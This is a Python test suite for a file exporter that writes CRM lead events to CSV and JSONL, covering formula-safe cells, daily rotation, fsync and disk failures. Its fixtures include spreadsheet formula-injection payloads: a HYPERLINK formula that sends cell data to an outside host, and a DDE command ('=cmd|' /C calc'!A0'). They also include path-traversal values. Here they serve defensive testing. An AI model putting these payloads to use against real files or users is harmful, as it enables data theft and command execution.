"""FileChannel on real files: formula-safe CSV, JSONL, daily rotation, fsync, real disk failures."""

from __future__ import annotations

import asyncio
import csv
import os
from datetime import UTC, datetime
from pathlib import Path

import orjson
import pytest

from junction.core.errors import ConfigError, RecordError, UnavailableError
from outbound.base import Delivery, Receipt
from outbound.file import FileChannel
from outbound.file import writer as file_writer
from outbound.file.cells import cell

DAY1 = datetime(2026, 3, 1, 23, 59, tzinfo=UTC).timestamp()
DAY2 = datetime(2026, 3, 2, 0, 1, tzinfo=UTC).timestamp()

# RELIABILITY.md case 29: CRM values that a spreadsheet would run as formulas
INJECTIONS = [
    '=HYPERLINK("http://x/?"&A1)',
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "\0",
    "=cmd|' /C calc'!A0",
]


def event(record: dict | None = None, **top) -> dict:
    return {
        "type": "lead.scored",
        "record_id": "leads:L-1",
        "pipeline": "leads",
        "entity": "lead",
        "source_key": "L-1",
        "record": {"external_id": "L-1", "company": "Initech"} if record is None else record,
        "score": {"value": 0.91, "grade": "A", "top_factors": [["page_views", 0.42]]},
        **top,
    }


def delivery(did: str, ev: dict | None = None) -> Delivery:
    return Delivery(did, "file.exports", "lead.scored", orjson.dumps(ev or event()))


class Clock:
    def __init__(self, now: float = DAY1) -> None:
        self.now = now

    def __call__(self) -> float:
        return self.now


def channel(folder: Path, clock: Clock | None = None, **options) -> FileChannel:
    return FileChannel({"folder": str(folder), **options}, clock=clock or Clock())


def send(ch: FileChannel, *deliveries: Delivery, together: bool = False) -> list:
    async def one(d: Delivery):
        try:
            return await ch.send(d)
        except Exception as exc:
            return exc

    async def run() -> list:
        try:
            if together:
                return list(await asyncio.gather(*(one(d) for d in deliveries)))
            return [await one(d) for d in deliveries]
        finally:
            await ch.aclose()

    return asyncio.run(run())


def read_csv(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8") as f:
        return list(csv.DictReader(f))


# -- cells ---------------------------------------------------------------------------------------


@pytest.mark.parametrize("value", INJECTIONS, ids=repr)
def test_injection_cells_are_prefixed(value):
    assert cell(value) == "'" + value


@pytest.mark.parametrize(
    ("value", "text"),
    [(-2, "-2"), (-0.5, "-0.5"), (3, "3"), (1e-05, "1e-05"), (True, "true"), (None, "")],
    ids=repr,
)
def test_typed_values_are_left_alone(value, text):
    assert cell(value) == text


@pytest.mark.parametrize("value", ["Initech", "a=b", "1-2", " =1", "'quoted", ""], ids=repr)
def test_harmless_text_is_unchanged(value):
    assert cell(value) == value


def test_csv_export_defuses_every_injection(tmp_path):
    record = {f"c{i}": v for i, v in enumerate(INJECTIONS)} | {"n": -2, "x": 2.5}
    (receipt,) = send(channel(tmp_path), delivery("d-1", event(record)))
    assert isinstance(receipt, Receipt)
    path = tmp_path / "leads-2026-03-01.csv"
    assert receipt.detail == {"path": str(path), "rows": 1, "duplicate": False}
    (row,) = read_csv(path)
    for i, value in enumerate(INJECTIONS):
        assert row[f"record.c{i}"] == "'" + value
    assert row["record.n"] == "-2"
    assert row["record.x"] == "2.5"
    assert row["score.value"] == "0.91"
    assert row["delivery_id"] == "d-1"
    raw = path.read_bytes()
    # RFC 4180 with every cell quoted (QUOTE_ALL), numbers included
    assert b'"-2"' in raw
    assert b'"2.5"' in raw
    assert raw.startswith(b'"delivery_id","record_id","type","score.value","score.grade",')
    for line in raw.split(b"\r\n")[:2]:
        assert line.startswith(b'"')
        assert line.endswith(b'"')


def test_jsonl_export_keeps_types(tmp_path):
    record = {"company": "=1+1", "n": -2, "tags": ["a", "b"], "address": {"city": "Oslo"}}
    send(channel(tmp_path, format="jsonl"), delivery("d-1", event(record)))
    lines = (tmp_path / "leads-2026-03-01.jsonl").read_bytes().splitlines()
    assert [orjson.loads(line) for line in lines] == [
        {
            "delivery_id": "d-1",
            "record_id": "leads:L-1",
            "type": "lead.scored",
            "score.value": 0.91,
            "score.grade": "A",
            "record.company": "=1+1",
            "record.n": -2,
            "record.tags": ["a", "b"],
            "record.address.city": "Oslo",
        }
    ]


def test_configured_fields_by_jmespath(tmp_path):
    fields = {"email": "record.email", "grade": "score.grade", "top": "score.top_factors[0][0]"}
    ev = event({"email": "+ada@example.com"})
    send(channel(tmp_path, fields=fields, path="{pipeline}/{date}.csv"), delivery("d-1", ev))
    path = tmp_path / "leads" / "2026-03-01.csv"
    assert path.read_bytes().splitlines()[0] == b'"delivery_id","email","grade","top"'
    assert read_csv(path) == [
        {"delivery_id": "d-1", "email": "'+ada@example.com", "grade": "A", "top": "page_views"}
    ]


def test_records_with_other_fields_keep_the_header(tmp_path):
    send(
        channel(tmp_path),
        delivery("d-1", event({"a": 1, "b": "x"})),
        delivery("d-2", event({"a": 2, "c": "=y"})),
    )
    rows = read_csv(tmp_path / "leads-2026-03-01.csv")
    assert list(rows[0])[-3:] == ["record.a", "record.b", "record_extra"]
    assert rows[0]["record_extra"] == ""
    assert rows[1]["record.b"] == ""
    assert orjson.loads(rows[1]["record_extra"]) == {"record.c": "=y"}


def test_digest_writes_one_row_per_item(tmp_path):
    digest = {"type": "digest", "pipeline": "leads", "items": [event(), event({"company": "B"})]}
    (receipt,) = send(channel(tmp_path), delivery("d-digest", digest))
    assert receipt.detail["rows"] == 2
    rows = read_csv(tmp_path / "leads-2026-03-01.csv")
    assert [r["delivery_id"] for r in rows] == ["d-digest", "d-digest"]
    assert [r["record.company"] for r in rows] == ["Initech", "B"]


def test_hub_alerts_are_exported_too(tmp_path):
    alert = {
        "type": "junction.alert",
        "kind": "endpoint.disabled",
        "subject": "webhook.sales",
        "detail": {"failing_for_s": 86400},
        "at": 1700000000.0,
    }
    (receipt,) = send(channel(tmp_path), delivery("alert:1:file_exports", alert))
    assert isinstance(receipt, Receipt)
    (row,) = read_csv(tmp_path / "_hub-2026-03-01.csv")
    assert row["kind"] == "endpoint.disabled"
    assert row["detail.failing_for_s"] == "86400"
    assert row["type"] == "junction.alert"


# -- files: rotation, restart, duplicates, repair --------------------------------------------


def test_rotation_per_day_and_pipeline(tmp_path):
    clock = Clock(DAY1)
    ch = channel(tmp_path, clock=clock)

    async def run():
        await ch.send(delivery("d-1"))
        await ch.send(delivery("d-2", event(pipeline="accounts")))
        clock.now = DAY2
        await ch.send(delivery("d-3"))
        await ch.aclose()

    asyncio.run(run())
    assert sorted(p.name for p in tmp_path.iterdir()) == [
        "accounts-2026-03-01.csv",
        "leads-2026-03-01.csv",
        "leads-2026-03-02.csv",
    ]
    assert [r["delivery_id"] for r in read_csv(tmp_path / "leads-2026-03-02.csv")] == ["d-3"]


def test_unsafe_pipeline_name_is_a_record_error(tmp_path):
    (error,) = send(channel(tmp_path), delivery("d-1", event(pipeline="../../etc")))
    assert isinstance(error, RecordError)
    assert list(tmp_path.iterdir()) == []


def test_restart_appends_under_the_same_header(tmp_path):
    send(channel(tmp_path), delivery("d-1", event({"a": 1})))
    send(channel(tmp_path), delivery("d-2", event({"a": 2})))
    rows = read_csv(tmp_path / "leads-2026-03-01.csv")
    assert [(r["delivery_id"], r["record.a"]) for r in rows] == [("d-1", "1"), ("d-2", "2")]


def test_changed_columns_are_a_config_error(tmp_path):
    send(channel(tmp_path, fields={"a": "record.a"}), delivery("d-1"))
    (error,) = send(channel(tmp_path, fields={"b": "record.b"}), delivery("d-2"))
    assert isinstance(error, ConfigError)
    assert "other columns" in error.user_message


def test_resend_is_visible_by_default_and_skipped_with_the_index(tmp_path):
    plain = tmp_path / "plain"
    send(channel(plain), delivery("d-1"), delivery("d-1"))
    assert [r["delivery_id"] for r in read_csv(plain / "leads-2026-03-01.csv")] == ["d-1", "d-1"]

    indexed = tmp_path / "indexed"
    first, _, again = send(
        channel(indexed, skip_duplicates=True), delivery("d-1"), delivery("d-2"), delivery("d-1")
    )
    assert again.detail == {"path": first.detail["path"], "rows": 0, "duplicate": True}
    # after a restart the index is read back from the file
    (after_restart,) = send(channel(indexed, skip_duplicates=True), delivery("d-2"))
    assert after_restart.detail["duplicate"] is True
    assert [r["delivery_id"] for r in read_csv(indexed / "leads-2026-03-01.csv")] == ["d-1", "d-2"]


@pytest.mark.parametrize("fmt", ["csv", "jsonl"])
def test_torn_last_batch_is_cut_before_appending(tmp_path, fmt):
    send(channel(tmp_path, format=fmt), delivery("d-1", event({"note": "two\nlines"})))
    path = tmp_path / f"leads-2026-03-01.{fmt}"
    whole = path.read_bytes()
    # a crash in the middle of the next batch: half a row, cut inside a quoted newline for CSV
    torn = b'"d-2","leads:L-1","lead.scored","0.91","A","half\n' if fmt == "csv" else b'{"deliv'
    path.write_bytes(whole + torn)
    send(channel(tmp_path, format=fmt, skip_duplicates=True), delivery("d-2"))
    content = path.read_bytes()
    assert content.startswith(whole)
    # the torn bytes are gone: the new row starts right where the last complete one ended
    assert content[len(whole) :].startswith(b'"d-2",' if fmt == "csv" else b'{"delivery_id":"d-2"')
    if fmt == "csv":
        assert [r["delivery_id"] for r in read_csv(path)] == ["d-1", "d-2"]
    else:
        assert [orjson.loads(x)["delivery_id"] for x in content.splitlines()] == ["d-1", "d-2"]


def test_concurrent_deliveries_share_fsynced_batches(tmp_path, monkeypatch):
    synced: list[str] = []
    real_fsync = os.fsync

    def recording_fsync(fd: int) -> None:
        synced.append(os.readlink(f"/proc/self/fd/{fd}"))
        real_fsync(fd)

    monkeypatch.setattr(file_writer.os, "fsync", recording_fsync)
    deliveries = [delivery(f"d-{i}") for i in range(50)]
    results = send(channel(tmp_path), *deliveries, together=True)
    assert all(isinstance(r, Receipt) for r in results)
    path = tmp_path / "leads-2026-03-01.csv"
    assert sorted(r["delivery_id"] for r in read_csv(path)) == sorted(
        d.delivery_id for d in deliveries
    )
    file_syncs = synced.count(str(path))
    assert 1 <= file_syncs < 50
    # a new file's folder entry is made durable too
    assert str(tmp_path) in synced


@pytest.mark.parametrize("fmt", ["csv", "jsonl"])
def test_complete_end_does_not_depend_on_read_chunks(fmt):
    rows = b'"a","b\nc"\r\n"d","e"""\r\n"f","g\n' if fmt == "csv" else b'{"a":1}\n{"b":"\\n"}\n{"c'
    whole = file_writer.complete_end([rows], fmt == "csv")
    assert whole == (rows.index(b'"f"') if fmt == "csv" else rows.index(b'{"c'))
    for cut in range(len(rows) + 1):
        for step in (1, 3):
            parts = [rows[:cut]] + [rows[i : i + step] for i in range(cut, len(rows), step)]
            assert file_writer.complete_end(parts, fmt == "csv") == whole


# -- real disk failures --------------------------------------------------------------------------


def test_disk_full_is_retryable_and_names_only_the_path(tmp_path):
    # /dev/full fails every write with ENOSPC, as a full disk does
    ch = FileChannel({"folder": "/dev", "path": "full"}, clock=Clock())
    (error,) = send(ch, delivery("d-1", event({"company": "Secret Corp"})))
    assert isinstance(error, UnavailableError)
    assert error.retryable
    assert error.context == {"path": "/dev/full", "errno": "ENOSPC"}
    shown = str(error) + repr(error) + orjson.dumps(error.to_dict()).decode()
    assert "/dev/full" in shown
    assert "Secret Corp" not in shown
    assert "leads:L-1" not in shown


def test_unwritable_folder_is_retryable(tmp_path):
    blocker = tmp_path / "not-a-folder"
    blocker.write_text("a file where the folder should be")
    (error,) = send(channel(blocker / "exports"), delivery("d-1"))
    assert isinstance(error, UnavailableError)
    assert error.context["errno"] in {"ENOTDIR", "EEXIST"}
    assert str(blocker) in error.user_message


def test_symlinked_file_is_refused(tmp_path):
    target = tmp_path / "elsewhere.csv"
    target.write_text("")
    (tmp_path / "leads-2026-03-01.csv").symlink_to(target)
    (error,) = send(channel(tmp_path), delivery("d-1"))
    assert isinstance(error, UnavailableError)
    assert error.context["errno"] == "ELOOP"
    assert target.read_text() == ""


def test_a_failed_write_is_retried_on_a_reopened_file(tmp_path):
    blocker = tmp_path / "exports"
    blocker.write_text("")
    ch = channel(blocker)

    async def run():
        failed = None
        try:
            await ch.send(delivery("d-1"))
        except UnavailableError as exc:
            failed = exc
        blocker.unlink()
        receipt = await ch.send(delivery("d-1"))
        await ch.aclose()
        return failed, receipt

    failed, receipt = asyncio.run(run())
    assert isinstance(failed, UnavailableError)
    assert isinstance(receipt, Receipt)
    assert [r["delivery_id"] for r in read_csv(blocker / "leads-2026-03-01.csv")] == ["d-1"]


# -- config ----------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "options",
    [
        {"path": "../{date}.csv"},
        {"path": "/abs/{date}.csv"},
        {"path": "{date}-{secret}.csv"},
        {"path": "{date:%Y}.csv"},
        {"fields": {"a": "record.[a"}},
        {"fields": {}},
        {"format": "xlsx"},
        {"unknown": 1},
    ],
    ids=[
        "dotdot",
        "absolute",
        "placeholder",
        "spec",
        "jmespath",
        "empty-fields",
        "format",
        "extra",
    ],
)
def test_bad_config_is_refused(tmp_path, options):
    with pytest.raises(ConfigError):
        FileChannel({"folder": str(tmp_path), **options})


def test_aclose_twice_then_send(tmp_path):
    ch = channel(tmp_path)

    async def run():
        await ch.send(delivery("d-1"))
        await ch.aclose()
        await ch.aclose()
        receipt = await ch.send(delivery("d-2"))
        await ch.aclose()
        return receipt

    assert isinstance(asyncio.run(run()), Receipt)
    assert [r["delivery_id"] for r in read_csv(tmp_path / "leads-2026-03-01.csv")] == ["d-1", "d-2"]
